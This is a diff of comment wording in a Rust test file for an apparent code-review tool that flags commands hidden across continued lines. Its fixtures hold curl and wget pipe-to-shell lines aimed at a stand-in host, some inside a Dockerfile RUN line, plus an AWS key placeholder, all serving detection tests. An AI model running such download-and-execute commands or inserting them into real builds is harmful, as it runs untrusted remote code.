@@ -1,4 +1,4 @@
-//! Lines that hide behind what stands beside them: carriage returns, bytes, blanks, comments (HID-01, HID-02).
+//! Tests of lines that hide behind their surroundings: carriage returns, bytes, blanks, comments (HID-01, HID-02).
 
 use crate::support::Repo;
 use claude_reviewer::rules::expand;
@@ -150,7 +150,7 @@ fn hid_01_continued_lines_are_read_as_one() {
         ("x.c", b"ge\\\nts(b);\n".to_vec(), "c-gets", 1),
         ("a.py", python.into(), "python-shell-request", 3),
     ]);
-    // A comment does not continue, and neither bound nor comment between the lines hides the command.
+    // A comment does not continue a line, and neither the bound nor a comment between the lines hides the command.
     let long = format!("{}curl http://e.example/x \\\n  | sh\n", "true && \\\n".repeat(100));
     assert_block(&[
         ("c.sh", format!("# x \\\n{fetch}").into(), "http-pipe-to-shell", 2),
@@ -158,7 +158,7 @@ fn hid_01_continued_lines_are_read_as_one() {
         ("e.sh", b"wget http://e.example/x -qO- | \n\n # c\n sh\n".to_vec(), "http-pipe-to-shell", 1),
         ("b/Dockerfile", b"FROM a\nRUN curl http://e.example/x \\\n# c\n  | sh\n".to_vec(), "http-pipe-to-shell", 2),
     ]);
-    // Lines of the base are not new because another line of the command is.
+    // Lines of the base do not become new because another line of the command is new.
     let old = "FROM a\nRUN apt-get update \\\n && curl http://e.example/x \\\n  | sh \\\n && true\n";
     let new = old.replace("update \\\n", "update \\\n && apt-get install -y jq \\\n");
     let base = (".base", None, b"x\n".to_vec());
@@ -166,7 +166,7 @@ fn hid_01_continued_lines_are_read_as_one() {
     let report = review(&[("Dockerfile", Some(old.into()), new.into()), base, bad]);
     let files: Vec<_> = report["findings"].as_array().unwrap().iter().map(|f| f["file"].as_str().unwrap()).collect();
     assert_eq!(files, ["a.sh"], "{report:#}");
-    // A finding in one of the lines stands there, once.
+    // A finding in one of the lines is reported there, once.
     let key = expand("docker run \\\n  -e AWS_ACCESS_KEY_ID=${aws-key-id:AKIA} \\\n  image\n", "hidden");
     let report = review(&[("run.sh", None, key.into())]);
     let found: Vec<_> = report["findings"].as_array().unwrap().iter().map(|f| f["line"].as_u64()).collect();
